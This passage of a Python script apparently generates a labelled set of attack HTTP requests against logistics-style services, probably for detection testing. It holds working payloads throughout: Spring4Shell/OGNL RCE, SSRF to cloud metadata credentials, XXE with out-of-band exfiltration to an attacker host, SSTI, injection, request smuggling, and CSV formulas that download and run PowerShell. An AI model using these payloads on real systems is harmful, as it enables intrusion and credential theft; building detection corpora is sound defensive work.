          qs([("javax.faces.ViewState", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTA=="), ("form", "form")]))
    # OGNL / SpEL / Spring4Shell
    ognl = "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}"
    c.add("ognl", "java", "POST", "/tms/upload.action", hb(H_PORTAL, ua="Mozilla/5.0", accept="*/*", extra=[("Content-Type", ognl)]), "x=1")
    c.add("ognl", "java", "GET", "/tms/%s/shipments.action" % qv("${(#a=@java.lang.Runtime@getRuntime().exec('id'))}"), hb(H_PORTAL, ua="Mozilla/5.0", accept="*/*"))
    c.add("spel", "java", "POST", "/tms/functionRouter", hb(H_PORTAL, extra=[("Content-Type", "text/plain"), ("spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/pwn\")")]), "test")
    c.add("spring4shell", "java", "POST", "/tms/carriers", hb(H_PORTAL, extra=[("Content-Type", "application/x-www-form-urlencoded")]),
          qs([("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\")))"),
              ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
              ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT")]))


SSRF = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://127.0.0.1:6379/",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "file:///etc/passwd",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://2852039166/latest/user-data",
    "http://0x7f000001:8080/actuator/env",
    "http://localhost:9200/_cat/indices",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "dict://127.0.0.1:11211/stats",
    "http://10.0.0.5:8500/v1/agent/self",
    "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "http://0177.0.0.1/admin",
    "http://127.1:2375/containers/json",
    "http://169.254.170.2/v2/credentials/",
    "http://192.168.1.1/cgi-bin/luci",
    "http://[::1]:8080/manager/html",
    "http://169.254.169.254.%s@169.254.169.254/latest/meta-data/" % "example.com",
    "http://example.com@127.0.0.1:8500/v1/kv/?recurse",
    "gopher://10.0.0.12:3306/_%a3%00%00%01%85%a6%ff%01",
]


def attacks_ssrf(c):
    for i, p in enumerate(SSRF):
        k = i % 5
        if k == 0:
            body = json.dumps({"carrier": pick(CARRIERS), "events": ["DELIVERED"], "callbackUrl": p, "format": "json"})
            c.add("ssrf-webhook", "ssrf", "POST", "/api/v2/webhooks", hb(H_TRACK, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
        elif k == 1:
            body = json.dumps({"printer": "ZD621-DOCK3", "copies": 1, "shipments": ["SHP" + digits(7)], "labelImageUrl": p})
            c.add("ssrf-label-image", "ssrf", "POST", "/api/labels/print", hb(H_LABEL, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
        elif k == 2:
            c.add("ssrf-fetch", "ssrf", "GET", "/api/labels/fetch?" + qs([("url", p)], plus=False), hb(H_LABEL, ua=pick(UA_API), accept="*/*"))
        elif k == 3:
            body = qs([("partner", "ACMEFREIGHT"), ("as2_url", p), ("mdn_url", p), ("_csrf", hexs(32))])
            c.add("ssrf-as2-endpoint", "ssrf", "POST", "/admin/partners/ACMEFREIGHT", hbrowser(H_EDI, extra=[("Content-Type", "application/x-www-form-urlencoded")]), body)
        else:
            c.add("ssrf-mdn", "ssrf", "POST", "/as2/receive", as2_headers("application/edi-x12", extra=[("Receipt-Delivery-Option", p)]), x12_envelope(x12_997(), "FA"))
    c.add("ssrf-azure", "ssrf", "GET", "/api/labels/fetch?url=" + qv("http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
          hb(H_LABEL, accept="*/*", extra=[("Metadata", "true")]))
    c.add("ssrf-ubl", "ssrf", "POST", "/api/despatch-advice/attachments", hb(H_CUSTOMS, extra=[("Content-Type", "application/json")]),
          json.dumps({"documentReference": {"id": "DA-1", "externalReference": {"uri": "http://169.254.169.254/latest/api/token", "method": "PUT"}}}))
    c.add("ssrf-import", "ssrf", "POST", "/api/rates/import", hb(H_RATES, extra=[("Content-Type", "application/json")]),
          json.dumps({"source": "url", "url": "http://127.0.0.1:8080/admin/export?all=true", "format": "csv"}))


def attacks_xxe(c):
    dtds = [
        '<!DOCTYPE DespatchAdvice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
        '<!DOCTYPE foo [<!ENTITY %% dtd SYSTEM "http://%s/evil.dtd"> %%dtd; %%send;]>\n' % ATK,
        '<!DOCTYPE r [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/var/www/config.php">]>\n',
        '<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n',
        '<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>\n',
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
        '<!ENTITY xxe "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]>\n',
        '<!DOCTYPE r SYSTEM "http://%s/ubl-2.1.dtd">\n' % ATK,
        '<!DOCTYPE r [<!ENTITY %% a SYSTEM "file:///etc/hostname"><!ENTITY %% b "<!ENTITY &#x25; c SYSTEM \'http://%s/?d=%%a;\'>"> %%b; %%c;]>\n' % OOB,
        '<!DOCTYPE r [<!ENTITY xxe SYSTEM "netdoc:///etc/passwd">]>\n',
        '<!DOCTYPE r [<!ENTITY xxe SYSTEM "jar:http://%s/evil.jar!/x.txt">]>\n' % ATK,
        '<!DOCTYPE r [<!ENTITY xxe SYSTEM "expect://id">]>\n',
        '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///proc/self/environ">]>\n',
    ]
    for i, d in enumerate(dtds):
        k = i % 4
        ref = "&xxe;" if "xxe" in d else "x"
        if k == 0:
            c.add("xxe-ubl", "xxe", "POST", "/api/despatch-advice", hb(H_CUSTOMS, accept="application/xml", extra=[("Content-Type", "application/xml"), ("Authorization", bearer())]),
                  ubl_despatch(note=ref, prolog=d))
        elif k == 1:
            c.add("xxe-customs", "xxe", "POST", "/api/declarations", hb(H_CUSTOMS, accept="application/xml", extra=[("Content-Type", "text/xml; charset=utf-8"), ("Authorization", bearer())]),
                  customs_decl(desc=ref, prolog=d))
        elif k == 2:
            c.add("xxe-idoc", "xxe", "POST", "/sap/bc/idoc_xml?sap-client=100", hb(H_ERP, ua="SAP NetWeaver Application Server (1.0;758)", accept="*/*", extra=[("Content-Type", "application/xml")]),
                  idoc_xml(desc=ref, prolog=d))
        else:
            xml = ubl_despatch(note=ref, prolog=d)
            ct, body = multipart([("documentType", "DespatchAdvice"), ("file", "DA-%s.xml" % digits(6), "application/xml", xml)])
            c.add("xxe-upload", "xxe", "POST", "/api/customs/upload", hbrowser(H_CUSTOMS, accept="application/json", extra=[("Content-Type", ct)]), body)
    # XInclude, SOAP, SVG signature, XLSX-less manifest as XML, AS2 XML payload
    xi = ('<?xml version="1.0"?>\n<cus:Declaration xmlns:cus="urn:example:customs:declaration:1" xmlns:xi="http://www.w3.org/2001/XInclude">'
          '<cus:Description><xi:include parse="text" href="file:///etc/passwd"/></cus:Description></cus:Declaration>')
    c.add("xxe-xinclude", "xxe", "POST", "/api/declarations", hb(H_CUSTOMS, accept="application/xml", extra=[("Content-Type", "application/xml")]), xi)
    soap = ('<?xml version="1.0"?>\n<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/shadow">]>\n'
            '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><trackShipment xmlns="urn:example:tracking">'
            '<waybill>&xxe;</waybill></trackShipment></soap:Body></soap:Envelope>')
    c.add("xxe-soap", "xxe", "POST", "/ws/TrackingService", hb(H_TRACK, accept="text/xml", extra=[("Content-Type", "text/xml; charset=utf-8"), ("SOAPAction", '"urn:trackShipment"')]), soap)
    svg = ('<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
           '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="100"><text x="10" y="50">&xxe;</text></svg>')
    ct, body = multipart([("waybill", waybill()), ("receivedBy", "A"), ("signature", "signature.svg", "image/svg+xml", svg)], style="okhttp")
    c.add("xxe-svg", "xxe", "POST", "/api/v3/stops/%s/pod" % digits(8), hb(H_DRIVER, ua=pick(UA_MOBILE), extra=[("Content-Type", ct), ("Authorization", bearer())]), body)
    edixml = ('<?xml version="1.0"?>\n<!DOCTYPE Interchange [<!ENTITY %% r SYSTEM "http://%s/x.dtd">%%r;]>\n'
              '<Interchange><ISA><ISA06>ACMEFREIGHT</ISA06></ISA><ST><ST01>204</ST01></ST></Interchange>') % ATK
    c.add("xxe-as2", "xxe", "POST", "/as2/receive", as2_headers("application/xml"), edixml)
    c.add("xxe-json-ct", "xxe", "POST", "/api/v2/webhooks", hb(H_TRACK, extra=[("Content-Type", "application/xml")]),
          '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><webhook><callbackUrl>&xxe;</callbackUrl></webhook>')
    utf16 = '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><DESADV01><ARKTX>&xxe;</ARKTX></DESADV01>'
    c.add("xxe-idoc", "xxe", "POST", "/api/idoc/inbound", hb(H_ERP, extra=[("Content-Type", "application/xml")]), utf16)


SSTI = [
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{lipsum.__globals__.os.popen('cat /etc/passwd').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "<%= system('cat /etc/passwd') %>",
    "__${T(java.lang.Runtime).getRuntime().exec('whoami')}__::.x",
    "{{#with \"s\" as |string|}}{{#with (string.sub.apply 0 \"constructor\")}}{{this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}{{/with}}{{/with}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{% import os %}{{ os.system('id') }}",
    "${{7*7}}${\"\".getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")}",
    "{{ ['id']|filter('system') }}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
]


def attacks_ssti(c):
    for i, p in enumerate(SSTI):
        k = i % 4
        if k == 0:
            body = json.dumps({"template": "Hello " + p, "sample": {"waybill": ups_tracking()}})
            c.add("ssti-notify", "ssti", "POST", "/api/notifications/templates/preview", hb(H_PORTAL, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
        elif k == 1:
            body = qs([("consignee", p), ("attn", "x"), ("notes", "n"), ("_csrf", hexs(32))])
            c.add("ssti-consignee", "ssti", "POST", "/shipments/new", hbrowser(H_PORTAL, extra=[("Content-Type", "application/x-www-form-urlencoded")]), body)
        elif k == 2:
            c.add("ssti-label", "ssti", "GET", "/api/labels/render?" + qs([("shipment", "SHP" + digits(7)), ("format", "zpl"), ("header", p)], plus=False), hb(H_LABEL, accept="*/*"))
        else:
            body = json.dumps({"name": "pallet", "engine": "mustache", "zpl": "^XA^FO40,40^A0N,40,40^FD%s^FS^XZ" % p})
            c.add("ssti-zpl", "ssti", "PUT", "/api/labels/templates/%s" % digits(4), hb(H_LABEL, extra=[("Content-Type", "application/json")]), body)


NOSQL = [
    ("json", {"waybill": {"$ne": None}, "postcode": {"$ne": None}}),
    ("json", {"driverId": "D1002", "pin": {"$gt": ""}}),
    ("json", {"$where": "sleep(5000) || this.status == 'DELIVERED'"}),
    ("json", {"consignee": {"$regex": "^.*", "$options": "si"}, "limit": 1000}),
    ("json", {"driverId": {"$in": ["admin", "root", "D1002"]}, "pin": {"$nin": [""]}}),
    ("json", {"waybill": "1Z999", "$or": [{"tenant": {"$exists": True}}, {"1": "1"}]}),
    ("json", {"filter": {"status": "OPEN", "$expr": {"$function": {"body": "function(){return sleep(5000)}", "args": [], "lang": "js"}}}}),
    ("query", [("driverId[$ne]", "x"), ("pin[$ne]", "x")]),
    ("query", [("waybill[$regex]", ".*"), ("postcode[$exists]", "true")]),
    ("query", [("bin[$gt]", ""), ("sku", "SKU-10442")]),
    ("query", [("where", "this.weight > 0; while(true){}")]),
    ("query", [("status", "OPEN'; return '1'=='1")]),
]


def attacks_nosqli(c):
    for i, (kind, p) in enumerate(NOSQL):
        if kind == "json":
            path = pick(["/api/v1/driver/login", "/api/v2/track/lookup", "/api/shipments/search"])
            host = H_DRIVER if "driver" in path else H_TRACK
            c.add("nosqli-json", "nosqli", "POST", path, hb(host, ua=pick(UA_MOBILE + UA_API), extra=[("Content-Type", "application/json")]), json.dumps(p))
        else:
            c.add("nosqli-query", "nosqli", "GET", "/api/shipments/find?" + qs(p, plus=False), hb(H_WMS, accept="application/json"))
    c.add("nosqli-form", "nosqli", "POST", "/driver/login", hbrowser(H_DRIVER, extra=[("Content-Type", "application/x-www-form-urlencoded")], cookie=False),
          qs([("driverId[$ne]", "nobody"), ("pin[$ne]", "0000")]))


LDAP = [
    "*)(uid=*))(|(uid=*",
    "*)(objectClass=*)",
    "admin)(&)",
    "*)(userPassword=*)",
    "ACME*)(|(memberOf=cn=Domain Admins,cn=Users,dc=example,dc=com)",
    "x)(|(cn=*)(mail=*)",
    "*))%00",
    "*()|&'",
    "ops)(!(objectClass=void)",
    "\\2a)(uid=\\2a",
]


def attacks_ldapi(c):
    for i, p in enumerate(LDAP):
        k = i % 3
        if k == 0:
            uri = "/api/partners?" + (("search=%s&qualifier=ZZ" % p) if "%00" in p else qs([("search", p), ("qualifier", "ZZ")]))
            c.add("ldapi-partner", "ldapi", "GET", uri, hbrowser(H_PORTAL, accept="application/json"))
        elif k == 1:
            body = qs([("username", p), ("password", "x"), ("domain", "WAREHOUSE")])
            c.add("ldapi-login", "ldapi", "POST", "/login", hbrowser(H_WMS, extra=[("Content-Type", "application/x-www-form-urlencoded")], cookie=False), body)
        else:
            c.add("ldapi-directory", "ldapi", "GET", "/api/directory/users?" + qs([("cn", p)], plus=False), hb(H_WMS, extra=[("Authorization", bearer())]))


def attacks_crlf(c):
    # AS2 header values that a gateway echoes into MDN headers / mail headers after decoding
    for sender, extra in [
        ("ACMEFREIGHT%0d%0aX-Forwarded-For:%20127.0.0.1", []),
        ("NORDICCOLD", [("Disposition-Notification-To", "edi@example.net%0D%0ABcc:%20harvest@" + ATK)]),
        ("ATLAS3PL", [("Receipt-Delivery-Option", "https://as2.example.net/mdn%0d%0aSet-Cookie:%20JSESSIONID=fixated")]),
        ("GLDIST01%E5%98%8A%E5%98%8DSet-Cookie:%20as2admin=1", []),
        ("PACRIMFWD", [("Disposition-Notification-To", "mdn@example.net\\r\\nContent-Type: text/html\\r\\n\\r\\n<script>alert(1)</script>")]),
    ]:
        c.add("crlf-as2", "crlf", "POST", "/as2/receive", as2_headers("application/edi-x12", sender=sender, extra=extra), x12_envelope(x12_997(), "FA"))
    raw = [
        "/as2/mdn?message_id=%3Cabc%40edi.example.com%3E%0d%0aSet-Cookie:%20session=attacker",
        "/track/redirect?return=%0d%0aLocation:%20https://" + ATK + "/phish",
        "/track/1Z999AA10123456784%0d%0aX-Injected:%20crlf",
        "/api/documents/download?bol=BOL-1.pdf%0d%0aContent-Disposition:%20attachment;%20filename=evil.html%0d%0a%0d%0a%3Chtml%3E",
        "/portal/lang?set=en%0aSet-Cookie:%20role=admin",
        "/edi/status?partner=ACME%250d%250aSet-Cookie:%2520a=b",
        "/%0d%0aLocation:%20//" + ATK,
        "/shipments?q=x%E5%98%8D%E5%98%8ALocation:%20http://" + ATK + "/",
    ]
    for u in raw:
        c.add("crlf-uri", "crlf", "GET", u, hbrowser(pick([H_EDI, H_TRACK, H_PORTAL]), cookie=False))
    body = json.dumps({"carrier": "UPSN", "callbackUrl": "https://hooks.example.net/carrier/ups",
                       "headers": {"X-Tenant": "acme\r\nHost: 169.254.169.254\r\n\r\nGET /latest/meta-data/ HTTP/1.1"}})
    c.add("crlf-webhook", "crlf", "POST", "/api/v2/webhooks", hb(H_TRACK, extra=[("Content-Type", "application/json"), ("Authorization", bearer())]), body)
    body = qs([("name", "Ops"), ("notify_email", "ops@example.com\r\nBcc: list@%s\r\nSubject: invoice" % ATK), ("_csrf", hexs(32))])
    c.add("crlf-mail", "crlf", "POST", "/settings/notifications", hbrowser(H_PORTAL, extra=[("Content-Type", "application/x-www-form-urlencoded")]), body)


def attacks_protocol(c):
    smuggle = "0\r\n\r\nGET /as2/admin/partners HTTP/1.1\r\nHost: %s\r\nX-Ignore: X" % H_EDI
    for te in ["chunked", "CHUNKED", "xchunked", "chunked, identity"]:
        c.add("smuggling", "protocol", "POST", "/as2/receive",
              [("Host", H_EDI), ("User-Agent", pick(UA_API)), ("Content-Type", "application/edi-x12"), ("Transfer-Encoding", te)], smuggle)
    c.add("smuggling", "protocol", "POST", "/api/v2/track/lookup",
          [("Host", H_TRACK), ("User-Agent", "Mozilla/5.0"), ("Content-Type", "application/x-www-form-urlencoded"), ("Transfer-Encoding", "chunked"), ("Transfer-Encoding", "identity")],
          "5\r\nawb=1\r\n0\r\n\r\nPOST /admin/delete HTTP/1.1\r\nHost: localhost\r\n\r\n")
    c.add("duplicate-host", "protocol", "GET", "/as2/", [("Host", H_EDI), ("Host", "127.0.0.1"), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*")])
    c.add("trace", "protocol", "TRACE", "/as2/receive", [("Host", H_EDI), ("User-Agent", "curl/8.5.0"), ("Accept", "*/*"), ("X-Probe", "<script>alert(1)</script>")])
    c.add("range-dos", "protocol", "GET", "/api/documents/pod/%s/pod-summary.pdf" % digits(8),
          [("Host", H_PORTAL), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*"), ("Range", "bytes=0-," + ",".join("5-%d" % n for n in range(1, 300))), ("Request-Range", "bytes=0-,5-0,5-1,5-2")])
    c.add("absolute-uri", "protocol", "GET", "http://169.254.169.254/latest/meta-data/", [("Host", "169.254.169.254"), ("User-Agent", "curl/8.5.0"), ("Accept", "*/*")])
    c.add("connect", "protocol", "CONNECT", "127.0.0.1:25", [("Host", "127.0.0.1:25"), ("User-Agent", "Mozilla/5.0"), ("Proxy-Connection", "Keep-Alive")])
    c.add("override-header", "protocol", "GET", "/login", [("Host", H_EDI), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*"), ("X-Original-URL", "/as2/admin/partners"), ("X-Rewrite-URL", "/as2/admin/partners")])
    c.add("smuggling", "protocol", "GET", "/edi/status",
          [("Host", H_EDI), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*"), ("Transfer-Encoding", "chunked")],
          "0\r\n\r\nGET /edi/admin/certs/export HTTP/1.1\r\nHost: localhost\r\nFoo: x")
    c.add("charset-evasion", "protocol", "POST", "/track/lookup", [("Host", H_TRACK), ("User-Agent", "Mozilla/5.0"), ("Content-Type", "application/x-www-form-urlencoded; charset=ibm037")],
          "%A6%81%A8%82%89%93%93=%7D%40%96%99%40%F1%7E%F1%60%60")


SCANNERS = [
    ("sqlmap/1.8.2#stable (https://sqlmap.org)", "/api/v2/track?awb=1Z999AA10123456784%27%20AND%201%3D1%20AND%20%27abc%27%3D%27abc"),
    ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000341)", "/as2/"),
    ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:003580)", "/edi/config.xml"),
    ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "/as2/HttpReceiver"),
    ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "/"),
    ("Fuzz Faster U Fool v2.1.0-dev", "/edi/backup.zip"),
    ("gobuster/3.6", "/as2/admin/"),
    ("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "/mendelson/"),
    ("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)", "/openas2/config.xml"),
    ("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "/wp-content/plugins/woocommerce-shipment-tracking/readme.txt"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36", "/.env"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36", "/.git/config"),
    ("python-requests/2.31.0", "/actuator/env"),
    ("Go-http-client/1.1", "/edi/.aws/credentials"),
    ("curl/7.88.1", "/sap/public/info"),
    ("Mozilla/5.0 zgrab/0.x", "/as2/"),
    ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "/b2bi/"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", "/edi/../../WEB-INF/web.xml"),
    ("Mozilla/5.0", "/server-status"),
    ("Mozilla/5.0", "/solr/admin/cores?action=STATUS&wt=json"),
    ("Mozilla/5.0 (compatible; Nessus)", "/NessusTest%s.html" % digits(6)),
    ("Mozilla/5.0", "/phpmyadmin/index.php"),
    ("Mozilla/5.0", "/as2/partners.xml.bak"),
    ("Mozilla/5.0", "/edi/outbox/%s.x12~" % digits(6)),
]


def attacks_scanner(c):
    for ua, path in SCANNERS:
        host = H_EDI if ("/as2" in path or "/edi" in path or "mendelson" in path or "openas2" in path or "b2bi" in path) else pick([H_PORTAL, H_TRACK, H_ERP])
        c.add("scanner", "scanner", "GET", path, [("Host", host), ("User-Agent", ua), ("Accept", "*/*"), ("Connection", "close")])
    c.add("scanner", "scanner", "GET", "/as2/receive", [("Host", H_EDI), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*"),
                                                     ("Acunetix-Product", "WVS/14.0"), ("Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"), ("Acunetix-User-agreement", "http://www.acunetix.com/wvs/disc.htm")])
    c.add("scanner", "scanner", "POST", "/edi/inbound/x12", [("Host", H_EDI), ("User-Agent", "sqlmap/1.8.2#stable (https://sqlmap.org)"), ("Accept", "*/*"), ("Content-Type", "application/x-www-form-urlencoded")],
          "partner=ACME%22%29%20AND%209321%3D9321%20AND%20%28%22xyZK%22%3D%22xyZK")
    c.add("scanner", "scanner", "OPTIONS", "/as2/", [("Host", H_EDI), ("User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"), ("Accept", "*/*")])


CSV_FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://%s/?leak=\"&A2&B2,\"Click for tracking\")" % ATK,
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C powershell -w hidden IEX(iwr http://%s/a.ps1)'!A0" % ATK,
    "-2+3+cmd|' /C notepad'!'A1'",
    "=IMPORTXML(CONCAT(\"http://%s/?v=\",CONCATENATE(A2:E2)),\"//a\")" % ATK,
    "=WEBSERVICE(\"http://%s/x?\"&A1)" % ATK,
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://%s/x.sct scrobj.dll'!''" % ATK,
]


def attacks_generic(c):
    for i, f in enumerate(CSV_FORMULAS):
        cell = '"%s"' % f.replace('"', '""')
        csv = '"Manifest No","Line","SKU","Description","Qty"\r\n"M%s",1,%s,"Bolts, M8",12\r\n"M%s",2,"SKU-10442","Tote",3\r\n' % (
            digits(6), cell if i % 2 == 0 else '"SKU-1"', digits(6))
        if i % 2:
            csv = csv.replace('"Bolts, M8"', cell)
        if i % 3 == 2:
            body = json.dumps({"consigneeName": f, "deliveryInstructions": "see export", "contact": "x"})
            c.add("csv-formula", "generic", "PATCH", "/api/shipments/SHP%s" % digits(7), hbrowser(H_PORTAL, accept="application/json", extra=[("Content-Type", "application/json")]), body)
        else:
            ct, body = multipart([("warehouse", "DC-EAST"), ("delimiter", ","), ("file", "manifest_%s.csv" % digits(8), "text/csv", csv)])
            c.add("csv-formula", "generic", "POST", "/api/manifests/upload", hbrowser(H_WMS, accept="application/json", extra=[("Content-Type", ct)]), body)
    c.add("proto-pollution", "generic", "POST", "/api/v1/optimize", hb(H_ROUTE, extra=[("Content-Type", "application/json")]),
          '{"depot":{"lat":41.85,"lng":-87.66},"stops":[],"__proto__":{"isAdmin":true,"maxVehicles":100000}}')
    c.add("proto-pollution", "generic", "GET", "/api/rates?" + qs([("lane", "CN-SHA|US-LAX"), ("__proto__[outputFunctionName]", "x;process.mainModule.require('child_process').execSync('id');s")], plus=False),
          hb(H_RATES, accept="application/json"))
    c.add("proto-pollution", "generic", "POST", "/api/quotes", hb(H_RATES, extra=[("Content-Type", "application/json")]),
          json.dumps({"origin": {"unlocode": "CN-SHA"}, "constructor": {"prototype": {"shell": "/proc/self/exe", "argv0": "console.log(require('child_process').execSync('id').toString())//", "NODE_OPTIONS": "--require /proc/self/cmdline"}}}))
    c.add("esi-injection", "generic", "POST", "/shipments/new", hbrowser(H_PORTAL, extra=[("Content-Type", "application/x-www-form-urlencoded")]),
          qs([("consignee", "ACME<esi:include src=\"http://%s/esi.html\"/>" % ATK), ("notes", "x")]))
    c.add("esi-injection", "generic", "GET", "/track/%s?%s" % (ups_tracking(), qs([("ref", "<esi:include src=\"http://169.254.169.254/latest/meta-data/\"/>")], plus=False)), hbrowser(H_TRACK))


def attacks_extra(c):
    # GS1 scan strings and SSCC paths carrying SQL
    c.add("sqli-gs1", "sqli", "GET", "/api/v1/scan?" + qs([("code", "(01)09521234543213(10)LOT' OR 1=1-- "), ("symbology", "GS1-128")], plus=False), hb(H_TRACK, ua=pick(UA_MOBILE)))
    c.add("sqli-gs1", "sqli", "GET", "/api/v1/sscc/%s" % qv("003401234500000000' AND SLEEP(5)#"), hb(H_TRACK, ua=pick(UA_MOBILE)))
    # GPX / KML route uploads are XML too
    gpx = ('<?xml version="1.0"?>\n<!DOCTYPE gpx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
           '<gpx version="1.1" creator="DriverApp" xmlns="http://www.topografix.com/GPX/1/1"><rte><name>&xxe;</name>'
           '<rtept lat="41.8527" lon="-87.6631"/></rte></gpx>')
    ct, body = multipart([("plan", "route.gpx", "application/gpx+xml", gpx)], style="okhttp")
    c.add("xxe-gpx", "xxe", "POST", "/api/v1/routes/import", hb(H_ROUTE, ua=pick(UA_MOBILE), extra=[("Content-Type", ct), ("Authorization", bearer())]), body)
    kml = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE kml [<!ENTITY %% p SYSTEM "http://%s/kml.dtd"> %%p;]>\n'
           '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>Depot</name><Point><coordinates>-87.66,41.85</coordinates></Point></Placemark></kml>') % ATK
    c.add("xxe-gpx", "xxe", "POST", "/api/v1/zones/import", hb(H_ROUTE, extra=[("Content-Type", "application/vnd.google-earth.kml+xml")]), kml)
    gpx2 = ('<?xml version="1.0"?><gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1"><wpt lat="41.85" lon="-87.66">'
            '<name>Dock &lt;img src=x onerror=alert(document.cookie)&gt;</name><desc><![CDATA[<script>alert(1)</script>]]></desc></wpt></gpx>')
    c.add("xss-gpx", "xss", "POST", "/api/v1/routes/import", hb(H_ROUTE, extra=[("Content-Type", "application/gpx+xml")]), gpx2)
    # UBL attachments by external reference (a real UBL element) pointing inside
    for uri in ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "file:///etc/shadow"):
        ubl = ubl_despatch().replace("</DespatchAdvice>", "  <cac:AdditionalDocumentReference><cbc:ID>POD</cbc:ID><cac:Attachment><cac:ExternalReference>"
                                      "<cbc:URI>%s</cbc:URI></cac:ExternalReference></cac:Attachment></cac:AdditionalDocumentReference>\n</DespatchAdvice>" % uri)
        c.add("ssrf-ubl", "ssrf", "POST", "/api/despatch-advice", hb(H_CUSTOMS, accept="application/xml", extra=[("Content-Type", "application/xml"), ("Authorization", bearer())]), ubl)
    c.add("rce-printer-path", "rce", "GET", "/api/printers/%s/status" % qv("ZD621;id;"), hb(H_LABEL, extra=[("Authorization", bearer())]))
    c.add("rce-printer-path", "rce", "POST", "/api/printers/zebra-07/test", hb(H_LABEL, extra=[("Content-Type", "application/json")]),
